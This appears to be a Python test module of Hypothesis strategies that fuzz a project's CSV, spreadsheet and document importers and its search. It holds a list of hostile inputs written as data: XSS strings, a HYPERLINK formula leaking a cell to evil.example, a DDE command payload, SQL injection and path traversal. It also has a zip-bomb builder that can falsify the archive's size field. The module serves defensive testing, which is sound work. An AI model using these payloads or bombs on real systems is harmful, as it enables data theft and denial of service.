"""Hypothesis strategies for hostile input: broken CSV and workbooks, odd encodings,
markup, formulas and query syntax in text, documents of every readable kind.

Big inputs (100,000 columns, multi-megabyte fields, zip bombs) are built from a few
drawn numbers, so hypothesis never has to generate or shrink the bytes themselves.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from corpus import collaborations, companies_house, innovate_uk, members
from corpus.tables import header_key
from tests.corpus.test_readers import docx_bytes, docx_paragraph, pdf_bytes

# Text people paste into forms and spreadsheets that a careless system would run.
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "**bold** _it_ [click](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "# Heading\n\n- list\n\n<div style='display:none'>hidden</div>",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1",
    "'; DROP TABLE organisations; --",
    '" OR 1=1 --',
    "Robert'); DELETE FROM audit_log; --",
    'NEAR(graphene turbine, 2) OR "x"*',
    "title:graphene AND ^robots NOT {a b}",
    "a* OR b* -c + (d",
    "_ __ _*",
    "${7*7} {{7*7}} %s%n%x",
    "\u202eevil\u202c \u200b\ufeff zero width",
    "Ω 😀 中文 العربية é",
    "../../etc/passwd",
    "\x01\x02\x1b[31mred\x1b[0m\x7f",
)
CONTROL = "".join(chr(c) for c in range(1, 32)) + "\x7f\x85"

plain_text = st.text(
    st.characters(codec="utf-8", exclude_characters="\x00"),
    max_size=60,
)
hostile_text = st.one_of(
    st.sampled_from(HOSTILE),
    plain_text,
    st.builds(lambda a, b: a + " " + b, st.sampled_from(HOSTILE), plain_text),
)
typical_values = st.sampled_from(
    [
        "", "Acme Ltd", "University of Glasgow", "EH1 1YZ", "G1 1XQ", "ZZ9 9ZZ", "SW1A",
        "55.95", "-3.19", "91", "1,200", "£3.5", "-5", "nan", "inf", "1e308", "true",
        "maybe", "business", "university", "12345678", "SC123456", "62012", "6201x",
        "62012 - Business and domestic software development", "2019-04-01",
        "31/02/2019", "2019", "Yes", "No", "Dissolved", "Active", "Academic", "Small",
        "S12000036", "E08000021", "X99999999",
    ]
)  # fmt: skip
# Values each importer accepts, by canonical column: rows built from these import.
VALID = {
    "name": ["Fuzz Widgets Ltd", "Fuzz University", "University of Glasgow"],
    "org_a": ["University of Glasgow", "Arup Group Ltd", "Fuzz Widgets Ltd"],
    "org_b": ["University of Strathclyde", "Durham University"],
    "participant": ["Fuzz Widgets Ltd", "University of Strathclyde"],
    "postcode": ["EH1 1YZ", "G1 1XQ", "SA18 3BL", ""],
    "lat": ["55.95", ""],
    "lon": ["-3.19", ""],
    "kind": ["business", "university", ""],
    "company_number": ["07228939", "SC123456", "1234"],
    "crn": ["07228939", ""],
    "employees": ["1,200", "12", ""],
    "turnover": ["£3.5", "1000000"],
    "rdi_active": ["yes", "false", ""],
    "weight": ["1", "2.5", ""],
    "year": ["2019", ""],
    "project": ["10050001", "P-1"],
    "grant": ["150,000", ""],
    "start": ["2019-04-01", "01/04/2019", ""],
    "lead": ["Yes", "No"],
    "status": ["Active", "Dissolved"],
    "sic_codes": ["62012;72190", ""],
    "sic_1": ["62012 - Business and domestic software development"],
}
LONG_FIELD_SIZES = (10_000, 200_000, 1 << 20, (1 << 20) + 1, 3_000_000)
long_field = st.builds(
    lambda size, char: char * size,
    st.sampled_from(LONG_FIELD_SIZES),
    st.sampled_from("ab\"'é"),
)
field_value = st.one_of(typical_values, typical_values, hostile_text, st.just(""))

IMPORTERS = {
    "organisations": members,
    "collaborations": collaborations,
    "companies-house": companies_house,
    "innovate-uk": innovate_uk,
}
HEADERS = {
    kind: [s for ss in module.COLUMNS.values() for s in ss]
    for kind, module in IMPORTERS.items()
}
ENCODINGS = (
    *["utf-8"] * 8, "utf-8-sig", "latin-1", "cp1252", "utf-16", "utf-16-le",
    "utf-16-be", "utf-32", "mixed",
)  # fmt: skip


def encode(text: str, encoding: str) -> bytes:
    """Text as a file in that encoding; 'mixed' is UTF-8 then Latin-1 halfway."""
    if encoding == "mixed":
        half = len(text) // 2
        return text[:half].encode("utf-8") + text[half:].encode("latin-1", "replace")
    return text.encode(encoding, "replace")


REQUIRED = {
    "organisations": ["name"],
    "collaborations": ["org_a", "org_b"],
    "companies-house": ["CompanyNumber"],
    "innovate-uk": ["Project Number", "Participant Name"],
}


def header_for(kind: str) -> st.SearchStrategy[list[str]]:
    """Mostly the required columns and some known ones, shuffled, with junk,
    blank and repeated names now and then."""
    known = st.sampled_from(HEADERS[kind])
    others = st.lists(
        st.one_of(known, known, known, st.just(""), hostile_text), max_size=10
    )
    with_required = st.builds(lambda o: REQUIRED[kind] + o, others).flatmap(
        st.permutations
    )
    return st.one_of(with_required, with_required, others)


def canonical(kind: str, header: str) -> str | None:
    """The importer's own name for a header, as its header matching finds it."""
    key = header_key(header)
    for name, spellings in IMPORTERS[kind].COLUMNS.items():
        if key in {header_key(s) for s in spellings}:
            return name
    return None


@st.composite
def csv_row(draw: st.DrawFn, kind: str, header: list[str]) -> list[str]:
    """A row for the header: valid values for its columns, or anything, ragged."""
    if draw(st.booleans()):
        return [
            draw(st.sampled_from(VALID.get(canonical(kind, h) or "", [""])))
            for h in header
        ]
    width = len(header)
    return draw(st.lists(field_value, min_size=max(0, width - 2), max_size=width + 2))


@st.composite
def csv_text(draw: st.DrawFn, kind: str) -> str:
    """A CSV for one importer: a header (maybe empty, repeated or junk), ragged rows,
    proper or naive quoting, any line ending, now and then a huge field or row."""
    header = draw(header_for(kind))
    rows = draw(st.lists(csv_row(kind, header), min_size=1, max_size=6))
    if draw(st.integers(0, 7)) == 0 and rows[0]:
        rows[0][draw(st.integers(0, len(rows[0]) - 1))] = draw(long_field)
    ending = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    if draw(st.integers(0, 3)):
        buffer = io.StringIO()
        writer = csv.writer(buffer, lineterminator=ending)
        writer.writerows([header, *rows])
        text = buffer.getvalue()
    else:  # naive joining: stray quotes and commas stay as they are
        text = ending.join(",".join(r) for r in [header, *rows])
    wide = draw(st.sampled_from([0] * 8 + [1001, 100_000]))
    if wide:
        filler = draw(st.sampled_from(["", "x"]))
        row = ",".join([filler] * wide)
        text = row + ending + text if draw(st.booleans()) else text + ending + row
    return text


@st.composite
def damaged(draw: st.DrawFn, data: bytes) -> bytes:
    """The bytes with a few spans overwritten, cut short, or NUL bytes inserted."""
    result = bytearray(data)
    for _ in range(draw(st.integers(0, 3))):
        if not result:
            break
        at = draw(st.integers(0, 1 << 24)) % len(result)  # stable if the size varies
        patch = draw(st.one_of(st.binary(min_size=1, max_size=8), st.just(b"\x00")))
        result[at : at + len(patch)] = patch
    if result and draw(st.integers(0, 5)) == 0:
        result = result[: draw(st.integers(0, 1 << 24)) % (len(result) + 1)]
    return bytes(result)


@st.composite
def csv_file(draw: st.DrawFn, kind: str) -> tuple[str, bytes]:
    """(file name, bytes) of a CSV for that importer, in some encoding, maybe damaged."""
    data = encode(draw(csv_text(kind)), draw(st.sampled_from(ENCODINGS)))
    if draw(st.integers(0, 5)) == 0:
        data = draw(damaged(data))
    name = draw(st.sampled_from(["fuzz.csv", "fuzz.CSV", "fuzz.txt", "fuzz"]))
    return name, data


def _cell(value: str) -> str:
    return ILLEGAL_CHARACTERS_RE.sub("", value)[:32_000]


@st.composite
def workbook(draw: st.DrawFn, kind: str) -> bytes:
    """An XLSX with the importer's header and rows of hostile or typical values."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    header = draw(header_for(kind))
    cells = st.one_of(field_value.map(_cell), st.integers(), st.floats(), st.none())
    rows: list[list[object]] = [list(map(_cell, header))]
    rows += draw(st.lists(st.lists(cells, max_size=8), max_size=5))
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def zip_bomb(member: str, megabytes: int, lie: bool = False) -> bytes:
    """A small zip whose one member expands to megabytes of zeros; with lie, the
    central directory claims the member is tiny."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open(member, "w", force_zip64=True) as out,
    ):
        chunk = bytes(1 << 20)
        for _ in range(megabytes):
            out.write(chunk)
    data = buffer.getvalue()
    if lie:  # overwrite the uncompressed size in the central directory entry
        at = data.rfind(b"PK\x01\x02")
        data = data[: at + 24] + (1000).to_bytes(4, "little") + data[at + 28 :]
    return data


@st.composite
def xlsx_file(draw: st.DrawFn, kind: str) -> tuple[str, bytes]:
    """(file name, bytes) of a workbook: generated, damaged, a zip bomb, or not one."""
    choice = draw(st.sampled_from(["book", "book", "damaged", "bomb", "csv"]))
    if choice == "bomb":
        member = draw(st.sampled_from(["xl/worksheets/sheet1.xml", "x.bin"]))
        data = zip_bomb(member, draw(st.sampled_from([1, 60])), draw(st.booleans()))
    elif choice == "csv":
        data = encode(draw(csv_text(kind)), "utf-8")
    else:
        data = draw(workbook(kind))
        if choice == "damaged":
            data = draw(damaged(data))
    return draw(st.sampled_from(["fuzz.xlsx", "fuzz.XLSX", "fuzz.xlsm"])), data


def import_file(kind: str) -> st.SearchStrategy[tuple[str, bytes]]:
    """Any file someone might feed the importer of that kind."""
    return st.one_of(csv_file(kind), csv_file(kind), xlsx_file(kind))


# --- documents --------------------------------------------------------------------

CHARSETS = (
    "utf-8", "latin-1", "windows-1252", "utf-16", "utf-32", "shift_jis", "bogus",
    "base64", "rot13", "zlib", "hex", "idna", "punycode", "undefined", "utf-7",
)  # fmt: skip
paragraph = st.lists(hostile_text, min_size=1, max_size=4).map(" ".join)


@st.composite
def text_document(draw: st.DrawFn, suffix: str) -> bytes:
    """Plain text or markdown: headings, hostile paragraphs, control characters,
    in some encoding, now and then with NUL bytes."""
    marks = "#" * draw(st.integers(0, 3)) if suffix == ".md" else ""
    blocks = draw(st.lists(st.tuples(paragraph, paragraph), max_size=5))
    text = "\n\n".join(f"{marks} {h}\n\n{body}" for h, body in blocks)
    if draw(st.integers(0, 4)) == 0:
        text += draw(st.text(st.sampled_from(CONTROL), min_size=1, max_size=40))
    data = encode(text, draw(st.sampled_from(ENCODINGS)))
    if draw(st.integers(0, 4)) == 0:
        data += b"\x00" * draw(st.integers(1, 4))
    return data


@st.composite
def html_document(draw: st.DrawFn) -> bytes:
    """A page with scripts, raw hostile markup, maybe unclosed tags, any charset."""
    charset = draw(st.sampled_from(CHARSETS))
    title = draw(hostile_text)
    body = "".join(
        f"<h{draw(st.integers(1, 6))}>{h}</h2><p>{p}"
        + draw(st.sampled_from(["</p>", "", "<script>alert(1)", "<![CDATA[", "<!--"]))
        for h, p in draw(st.lists(st.tuples(paragraph, paragraph), max_size=4))
    )
    page = (
        f'<!doctype html><html><head><meta charset="{charset}"><title>{title}</title>'
        f"<script>document.write('<h1>x</h1>')</script></head><body>{body}</body></html>"
    )
    return encode(page, draw(st.sampled_from(["utf-8", "latin-1", "utf-16", "mixed"])))


@st.composite
def pdf_document(draw: st.DrawFn) -> bytes:
    pages = draw(st.lists(st.lists(paragraph, max_size=4), min_size=1, max_size=3))
    ascii_pages = [[line.encode("latin-1", "replace").decode("latin-1") for line in p]
                   for p in pages]  # fmt: skip
    return pdf_bytes(ascii_pages, title=draw(st.none() | hostile_text))


@st.composite
def docx_document(draw: st.DrawFn) -> bytes:
    styles = st.sampled_from([None, "Title", "Heading1", "heading 2", "Normal"])
    raw = draw(st.booleans())  # unescaped text makes broken or hostile XML
    body = "".join(
        docx_paragraph(text if raw else escape(text), draw(styles))
        for text in draw(st.lists(paragraph, max_size=5))
    )
    return docx_bytes(body, title=draw(st.none() | hostile_text.map(escape)))


@st.composite
def document_file(draw: st.DrawFn) -> tuple[str, bytes]:
    """(file name, bytes) of a document: generated, damaged, a zip bomb, or junk."""
    suffix = draw(st.sampled_from([".txt", ".md", ".html", ".pdf", ".docx"]))
    if suffix in (".txt", ".md"):
        data = draw(text_document(suffix))
    elif suffix == ".html":
        data = draw(html_document())
    elif suffix == ".pdf":
        data = draw(pdf_document())
    elif draw(st.integers(0, 4)) == 0:
        data = zip_bomb("word/document.xml", 60, draw(st.booleans()))
    else:
        data = draw(docx_document())
    if draw(st.integers(0, 4)) == 0:
        data = draw(damaged(data))
    return "fuzz" + suffix, data


# --- search, questions and needs -------------------------------------------------

ONE_MB = 1_000_000
QUESTIONS = (
    "What is an innovation cluster?",
    "Which organisations work on robotics?",
    "How are clusters of type Specialised defined?",
    "a university partner for graphene coatings near Glasgow",
)
query_text = st.one_of(
    hostile_text,
    st.builds(lambda q, h: f"{q} {h}", st.sampled_from(QUESTIONS), hostile_text),
    st.sampled_from(["", " ", "\t\n", "\x00", "\x00" * 5, "   \u3000 ", CONTROL]),
    st.text(st.sampled_from(CONTROL + " \u00a0\u2028"), max_size=20),
    st.builds(
        lambda size, char: char * size,
        st.sampled_from([499, 500, 501, 2000, 2001, 10_000, ONE_MB]),
        st.sampled_from(["a", "é", " ", "graphene ", "\x00", '"']),
    ),
)

# The fixture organisations' names (the fuzz workspaces hold them), as typed: exact,
# in another case, padded with spaces or control characters, or cut short.
with (Path(__file__).parents[1] / "data" / "gtr_organisations.csv").open() as _f:
    ORGANISATION_NAMES = tuple(row["name"] for row in csv.DictReader(_f))

organisation_name = st.one_of(
    st.sampled_from(ORGANISATION_NAMES),
    st.builds(str.upper, st.sampled_from(ORGANISATION_NAMES)),
    st.builds(
        lambda name, pad: f"{pad}{name}{pad}",
        st.sampled_from(ORGANISATION_NAMES),
        st.text(st.sampled_from(CONTROL + " \u00a0"), min_size=1, max_size=3),
    ),
    st.builds(
        lambda name, cut: name[:cut],
        st.sampled_from(ORGANISATION_NAMES),
        st.integers(1, 12),
    ),
    query_text,
)
